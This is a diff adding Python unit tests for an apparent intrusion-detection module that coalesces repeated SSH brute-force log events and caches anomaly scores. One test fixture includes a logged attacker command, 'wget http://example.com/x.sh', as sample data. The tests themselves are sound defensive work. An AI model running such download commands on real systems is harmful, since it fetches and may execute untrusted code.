@@ -0,0 +1,65 @@
+import os
+import sys
+import unittest
+from datetime import datetime, timedelta
+
+sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', 'core_ml'))
+
+from coalesce import EventCoalescer, ScoreCache
+
+LOG = {"protocol": "ssh", "destination_port": 22, "auth_attempts": {"failed": 3, "success": 0}, "commands": []}
+
+
+class TestEventCoalescer(unittest.TestCase):
+    def test_equivalent_events_are_absorbed_within_window(self):
+        coalescer = EventCoalescer(window_seconds=5, max_ips=10)
+        start = datetime(2024, 1, 1, 12, 0, 0)
+        self.assertIsNone(coalescer.absorb("192.0.2.1", LOG, start))
+        self.assertEqual(coalescer.open("192.0.2.1", LOG, start, 0.8, "brute_force", ["alert"]), [])
+        for i in range(1, 4):
+            burst = coalescer.absorb("192.0.2.1", LOG, start + timedelta(seconds=i))
+            self.assertIsNotNone(burst)
+        self.assertEqual(burst.weight, 4)
+        self.assertIsNone(coalescer.absorb("192.0.2.1", LOG, start + timedelta(seconds=10)))
+
+    def test_different_signature_is_not_absorbed(self):
+        coalescer = EventCoalescer(window_seconds=5)
+        start = datetime(2024, 1, 1, 12, 0, 0)
+        coalescer.open("192.0.2.1", LOG, start, 0.8, "brute_force", ["alert"])
+        other = dict(LOG, commands=["wget http://example.com/x.sh"])
+        self.assertIsNone(coalescer.absorb("192.0.2.1", other, start + timedelta(seconds=1)))
+
+    def test_open_returns_replaced_and_evicted_bursts(self):
+        coalescer = EventCoalescer(window_seconds=5, max_ips=2)
+        start = datetime(2024, 1, 1, 12, 0, 0)
+        coalescer.open("192.0.2.1", LOG, start, 0.8, "brute_force", ["alert"])
+        coalescer.absorb("192.0.2.1", LOG, start)
+        coalescer.open("192.0.2.2", LOG, start, 0.5, "suspicious", ["alert"])
+        closed = coalescer.open("192.0.2.3", LOG, start, 0.5, "suspicious", ["alert"])
+        self.assertEqual([(b.ip, b.weight) for b in closed], [("192.0.2.1", 2)])
+        closed = coalescer.open("192.0.2.3", LOG, start, 0.5, "suspicious", ["alert"])
+        self.assertEqual([b.ip for b in closed], ["192.0.2.3"])
+        self.assertEqual(sorted(b.ip for b in coalescer.close_all()), ["192.0.2.2", "192.0.2.3"])
+
+
+class TestScoreCache(unittest.TestCase):
+    def test_nearby_vectors_share_a_key(self):
+        cache = ScoreCache(step=0.1)
+        self.assertEqual(cache.key({'rate': 1000.0, 'flag': 0.0}), cache.key({'rate': 1010.0, 'flag': 0.01}))
+        self.assertNotEqual(cache.key({'rate': 1000.0}), cache.key({'rate': 2000.0}))
+
+    def test_lru_eviction_and_ttl(self):
+        cache = ScoreCache(max_entries=2, ttl_seconds=300)
+        cache.put(('a',), 0.1, 'suspicious', {})
+        cache.put(('b',), 0.2, 'suspicious', {})
+        cache.get(('a',))
+        cache.put(('c',), 0.3, 'brute_force', {})
+        self.assertIsNone(cache.get(('b',)))
+        self.assertEqual(cache.get(('a',))[0], 0.1)
+        expired = ScoreCache(ttl_seconds=-1)
+        expired.put(('a',), 0.1, 'suspicious', {})
+        self.assertIsNone(expired.get(('a',)))
+
+
+if __name__ == "__main__":
+    unittest.main()